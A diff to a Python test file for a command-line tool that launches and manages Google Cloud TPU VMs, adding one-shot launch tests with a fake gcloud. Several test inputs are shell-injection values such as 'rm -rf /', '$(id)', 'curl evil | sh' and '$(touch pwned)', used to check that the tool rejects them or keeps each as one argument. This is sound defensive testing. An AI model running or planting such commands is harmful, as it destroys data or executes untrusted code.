@@ -25,7 +25,7 @@ from unittest import mock
 import pytest
 
 from launch import __main__ as launch_main
-from launch import common, tpu_vm
+from launch import common, tpu_vm, tpu_vm_oneshot
 
 ROOT = pathlib.Path(__file__).resolve().parents[1]
 GOLDEN_DIR = ROOT / "tests" / "golden" / "tpu_vm"
@@ -68,6 +68,13 @@ INVOCATIONS = {
     "status_orphans": ["status", "--zone=us-east5-b", "--project=my-project"],
     "delete_v4": ["delete", *_V4],
     "delete_v6e_queued": ["delete", *_V6E, "--queued"],
+    "launch_v4_image": ["launch", *_V4, "--accelerator-type=v4-8", "--spot", "--max-runtime=6h",
+                        _IMAGE, "--workdir=gs://my-bucket/runs/demo-v4", "--",
+                        "--config=trainer/configs/breast_cancer.py"],
+    "launch_v6e_queued_keep": ["launch", *_V6E, "--accelerator-type=v6e-16", "--queued", "--spot",
+                               "--valid-until-duration=6h", "--keep", _IMAGE,
+                               "--workdir=gs://my-bucket/runs/demo-v6e", "--",
+                               "--config=trainer/configs/mobile_price.py"],
 }
 
 _GCLOUD_ENV = {
@@ -93,6 +100,7 @@ def cli(argv, capsys, user="alice"):
   """Runs `python -m launch tpu-vm ARGV` in-process; returns (code, stdout, stderr)."""
   with mock.patch.object(common, "subprocess", _NoSubprocess()), \
        mock.patch.object(tpu_vm, "subprocess", _NoSubprocess()), \
+       mock.patch.object(tpu_vm_oneshot, "subprocess", _NoSubprocess()), \
        mock.patch.dict(os.environ, {"USER": user}):
     return _cli(argv, capsys)
 
@@ -210,6 +218,28 @@ def test_real_gcloud_parses_every_command(capsys, tmp_path):
   assert all("rc=2" in v for _, v in results[-2:]), results[-2:]
 
 
+def _docs_gcloud_commands(path):
+  """The `gcloud ...` lines of a page's code blocks (continuations joined), as argv lists."""
+  text = path.read_text().replace("\\\n", " ")
+  blocks = re.findall(r"```(?:sh)?\n(.*?)```", text, flags=re.S)
+  lines = [line.strip() for block in blocks for line in block.splitlines()]
+  # `gcloud auth ...` changes local credentials and would not stop at "no account": left out.
+  return [shlex.split(line) for line in lines
+          if line.startswith("gcloud ") and not line.startswith("gcloud auth ")]
+
+
+@pytest.mark.slow
+def test_real_gcloud_parses_the_docs_set_up_commands(tmp_path):
+  commands = [argv for page in (DOCS, ROOT / "docs" / "gke.md")
+              for argv in _docs_gcloud_commands(page)]
+  assert len(commands) >= 12
+  assert any("--scopes=cloud-platform" in argv for argv in commands)
+  with concurrent.futures.ThreadPoolExecutor(4) as pool:
+    verdicts = list(pool.map(lambda argv: _gcloud_verdict(argv, tmp_path), commands))
+  failed = [(shlex.join(argv)[:160], v) for argv, v in zip(commands, verdicts) if v]
+  assert not failed, failed
+
+
 @pytest.mark.parametrize("argv", [
     ["delete", "--name=demo;rm -rf /", "--zone=us-central2-b", "--project=p-123456"],
     ["delete", "--name=$(id)", "--zone=us-central2-b", "--project=p-123456"],
@@ -231,6 +261,10 @@ def test_real_gcloud_parses_every_command(capsys, tmp_path):
     ["create", *_V4, "--accelerator-type=v4-8", "--valid-until-duration=6h"],  # Not queued.
     ["create", *_V4, "--accelerator-type=v4-8", "--max-runtime=6h"],
     ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--spot", "--flex-start"],
+    # gcloud documents --max-run-duration for flex-start only; flex-start needs a duration.
+    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--max-runtime=6h"],
+    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--flex-start"],
+    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--flex-start", "--max-runtime=8d"],
     ["run", *_V4, "--image=img;id", "--workdir=gs://b-1/r"],
     ["run", *_V4, "--image=img\n", "--workdir=gs://b-1/r"],
     ["run", *_V4, "--image=$(id)", "--workdir=gs://b-1/r"],
@@ -239,6 +273,13 @@ def test_real_gcloud_parses_every_command(capsys, tmp_path):
     ["run", *_V4, _IMAGE, "--workdir=gs://b-1/a\nb"],
     ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--config.x=a\nrm -rf /"],
     ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--workdir=gs://other/r"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--config.x=a\tb"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--config=x"],  # trainer flags go after --
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/it's"],  # the one gs:// rule of launch/common.py
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=1BAD=x"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=NO_VALUE"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=A=b\nc"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=$(id)=1"],
     ["run", *_V4, "--pip-spec=jaxjob\ncurl evil | sh", "--workdir=gs://b-1/r"],
     ["run", *_V4, _IMAGE, "--pip-spec=jaxjob", "--workdir=gs://b-1/r"],
     ["logs", *_V4, "--workers=0"],
@@ -265,7 +306,8 @@ elif name == "gcloud" and sys.argv[1:3] == ["auth", "print-access-token"]:
 elif name == "curl":
   print("3")
 elif sys.argv[1:2] == ["run"] or sys.argv[1:3] == ["-m", "trainer"]:
-  print("training")
+  print("training", "JAX_PLATFORMS=" + str(os.environ.get("JAX_PLATFORMS")),
+        "XLA_FLAGS=" + str(os.environ.get("XLA_FLAGS")))
   time.sleep(float(os.environ.get("STUB_SLEEP", "0")))
   sys.exit(42)
 """
@@ -324,14 +366,37 @@ def test_run_script_passes_each_value_as_one_argument(source, remote):
   expected = [*NASTY_ARGS, f"--workdir={NASTY_WORKDIR}"]
   if source == "image":
     assert trainer == [["docker", "run", "--name=jaxjob-demo", "--privileged", "--net=host",
-                        "--init", kwargs["image"], *expected]]
+                        "--init", "--env=JAX_PLATFORMS=tpu", kwargs["image"], *expected]]
   else:
     assert trainer == [["python", "-m", "trainer", *expected]]
     install = [c for c in calls() if c[:4] == ["python3", "-m", "uv", "pip"]]
     spec = kwargs["pip_spec"] if source == "pip_git" else (
         f"jaxjob[tpu] @ file://{tmp}/jaxjob-demo-pkg/jaxjob-0.1.0-py3-none-any.whl")
     assert install[0][-1] == spec
-  assert "training" in (tmp / "jaxjob-demo.log").read_text()
+  log = (tmp / "jaxjob-demo.log").read_text()
+  assert "training" in log
+  if source != "image":  # docker gets --env; the venv's python gets the variable itself
+    assert "JAX_PLATFORMS=tpu" in log
+  assert not list(tmp.rglob("pwned"))
+
+
+@pytest.mark.parametrize("source", ["image", "pip_git"])
+def test_run_env_replaces_the_default_platform_and_stays_one_value(source, remote):
+  tmp, execute, calls = remote
+  kwargs = {"image": {"image": "us-docker.pkg.dev/p/r/jaxjob:tpu"},
+            "pip_git": {"pip_spec": "jaxjob[tpu] @ git+https://x/y"}}[source]
+  env = {"JAX_PLATFORMS": "cpu", "XLA_FLAGS": "--a=1 $(touch pwned) 'q'"}
+  script = tpu_vm.run_script("demo", "gs://b-1/r", [], env=env, remote_dir=str(tmp), **kwargs)
+  proc = execute(script)
+  assert proc.returncode == 0, proc.stderr
+  assert _wait_for(tmp / "jaxjob-demo.exit").strip() == "42"
+  if source == "image":
+    (run,) = [c for c in calls() if c[1:2] == ["run"]]
+    assert [a for a in run if a.startswith("--env=")] == [
+        "--env=JAX_PLATFORMS=cpu", "--env=XLA_FLAGS=--a=1 $(touch pwned) 'q'"]
+  else:
+    log = (tmp / "jaxjob-demo.log").read_text()
+    assert "JAX_PLATFORMS=cpu XLA_FLAGS=--a=1 $(touch pwned) 'q'" in log
   assert not list(tmp.rglob("pwned"))
 
 
@@ -404,6 +469,23 @@ def test_owner_comes_from_user(capsys):
   assert code == 0 and "--labels=jaxjob_run=demo-v4,jaxjob_owner=bob-smith" in out
 
 
+def test_venv_python_is_the_projects(capsys):
+  import tomllib  # pylint: disable=g-import-not-at-top
+  requires = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["requires-python"]
+  assert requires == f">={tpu_vm._PYTHON}"  # pylint: disable=protected-access
+  _, out, _ = cli(with_dry_run(INVOCATIONS["run_v4_pip_git"]), capsys)
+  assert f"--python {tpu_vm._PYTHON}" in out  # pylint: disable=protected-access
+  assert f"Python {tpu_vm._PYTHON}" in DOCS.read_text()  # pylint: disable=protected-access
+
+
+def test_docs_prepare_ssh_and_the_image_pull():
+  text = DOCS.read_text()
+  # --worker=all opens one SSH session per worker: the key must be in the agent first.
+  assert text.index("ssh-add ~/.ssh/google_compute_engine") < text.index(
+      "python -m launch tpu-vm run")
+  assert "roles/artifactregistry.reader" in text and "roles/storage.objectUser" in text
+
+
 def test_walkthrough_uses_only_tested_invocations():
   text = DOCS.read_text().replace("\\\n", " ")
   commands = [shlex.split(line) for line in text.splitlines()
@@ -412,3 +494,130 @@ def test_walkthrough_uses_only_tested_invocations():
   assert len(commands) >= 10
   for argv in commands:
     assert [a for a in argv if a != "--dry-run"] in tested, shlex.join(argv)
+
+
+# ---------------------------------------------------------------------------------------------
+# `launch`: the one-shot flow against a fake gcloud on PATH (real subprocesses, real argv).
+
+_FAKE_GCLOUD = f"""#!{sys.executable}
+import json, os, pathlib, sys, time
+state = pathlib.Path(os.environ["FAKE_GCLOUD_DIR"])
+argv = sys.argv[1:]
+with open(state / "calls.jsonl", "a") as f:
+  f.write(json.dumps(argv) + "\\n")
+verb = [a for a in argv if not a.startswith("-")][:5]
+def read(name, default):
+  path = state / name
+  return path.read_text() if path.exists() else default
+if verb[2:4] == ["tpu-vm", "describe"] and "--format=value(state)" in argv:
+  if not (state / "exists").exists():
+    sys.exit("ERROR: NOT_FOUND")
+  print("READY")
+elif verb[2:4] == ["tpu-vm", "describe"]:
+  print("10.0.0.1\\n10.0.0.2")
+elif verb[2:4] == ["queued-resources", "describe"]:
+  states = read("queued", "ACTIVE").split()
+  n = len(list(state.glob("qr-*")))
+  (state / f"qr-{{n}}").write_text("")
+  print(states[min(n, len(states) - 1)])
+elif verb[2:4] == ["tpu-vm", "ssh"] and "--worker=all" in argv:
+  sys.exit(int(read("run_rc", "0")))
+elif verb[2:4] == ["tpu-vm", "ssh"]:
+  worker = int([a for a in argv if a.startswith("--worker=")][0].split("=")[1])
+  print("step 1", flush=True)
+  time.sleep(float(read("sleep", "0")))
+  print("jaxjob: trainer exited with code " + read("codes", "0 0").split()[worker])
+"""
+
+
+@pytest.fixture
+def fake_gcloud(tmp_path, monkeypatch):
+  bin_dir, state = tmp_path / "bin", tmp_path / "state"
+  bin_dir.mkdir()
+  state.mkdir()
+  (bin_dir / "gcloud").write_text(_FAKE_GCLOUD)
+  (bin_dir / "gcloud").chmod(0o755)
+  monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
+  monkeypatch.setenv("FAKE_GCLOUD_DIR", str(state))
+  monkeypatch.setenv("USER", "alice")
+
+  def calls():
+    lines = (state / "calls.jsonl").read_text().splitlines()
+    return [[a for a in json.loads(line) if not a.startswith("--command=")] for line in lines]
+
+  return state, calls
+
+
+def _verbs(calls):
+  """Each call as `tpu-vm create`, `queued-resources delete`, `tpu-vm ssh --worker=all`, ..."""
+  named = []
+  for argv in calls:
+    words = [a for a in argv if not a.startswith("-")]
+    worker = [a for a in argv if a.startswith("--worker=")]
+    named.append(" ".join(words[2:4] + worker))
+  return named
+
+
+def _launch(capsys, *extra, name="launch_v4_image"):
+  argv = INVOCATIONS[name]
+  split = argv.index("--")
+  return _cli(argv[:split] + list(extra) + argv[split:], capsys)
+
+
+def test_launch_creates_runs_follows_and_deletes(fake_gcloud, capsys):
+  state, calls = fake_gcloud
+  (state / "codes").write_text("0 3")
+  code, out, _ = _launch(capsys)
+  assert code == 3  # the first non-zero trainer exit code of any worker
+  assert "[worker 1] jaxjob: trainer exited with code 3" in out.splitlines()
+  verbs = _verbs(calls())
+  assert verbs[:4] == ["tpu-vm describe", "tpu-vm create", "tpu-vm ssh --worker=all",
+                       "tpu-vm describe"]
+  assert sorted(verbs[4:6]) == ["tpu-vm ssh --worker=0", "tpu-vm ssh --worker=1"]
+  assert verbs[6:] == ["tpu-vm delete"]
+
+
+def test_launch_reuses_an_existing_vm_and_keeps_it(fake_gcloud, capsys):
+  state, calls = fake_gcloud
+  (state / "exists").write_text("")
+  code, out, _ = _launch(capsys)
+  assert code == 0 and "reused" in out
+  assert "tpu-vm create" not in _verbs(calls()) and "tpu-vm delete" not in _verbs(calls())
+
+
+@pytest.mark.parametrize("extra, deleted", [([], True), (["--keep"], False)])
+def test_launch_deletes_after_a_failed_start_unless_kept(extra, deleted, fake_gcloud, capsys):
+  state, calls = fake_gcloud
+  (state / "run_rc").write_text("255")  # ssh could not reach the workers
+  code, out, _ = _launch(capsys, *extra)
+  assert code == 255
+  assert ("tpu-vm delete" in _verbs(calls())) == deleted
+  assert ("lists what is left running" in out) == (not deleted)
+
+
+def test_launch_max_runtime_holds_without_flex_start(fake_gcloud, capsys):
+  state, calls = fake_gcloud
+  (state / "sleep").write_text("60")  # the trainer would run for a minute
+  started = time.monotonic()
+  argv = [a if a != "--max-runtime=6h" else "--max-runtime=3s"
+          for a in INVOCATIONS["launch_v4_image"]]
+  code, _, err = _cli(argv, capsys)
+  assert code == tpu_vm_oneshot.TIMED_OUT and "--max-runtime=3s reached" in err
+  assert time.monotonic() - started < 30
+  assert _verbs(calls())[-1] == "tpu-vm delete"
+
+
+@pytest.mark.parametrize("states, code, expected_last", [
+    ("WAITING_FOR_RESOURCES PROVISIONING ACTIVE", 0, "queued-resources delete"),
+    ("WAITING_FOR_RESOURCES FAILED", 1, "queued-resources delete"),
+])
+def test_launch_waits_for_the_queued_resource(states, code, expected_last, fake_gcloud, capsys):
+  state, calls = fake_gcloud
+  (state / "queued").write_text(states)
+  argv = [a for a in INVOCATIONS["launch_v6e_queued_keep"] if a != "--keep"]
+  split = argv.index("--")
+  result, _, _ = _cli(argv[:split] + ["--poll-seconds=0.1"] + argv[split:], capsys)
+  assert result == code
+  verbs = _verbs(calls())
+  assert verbs.count("queued-resources describe") == len(states.split())
+  assert verbs[-1] == expected_last
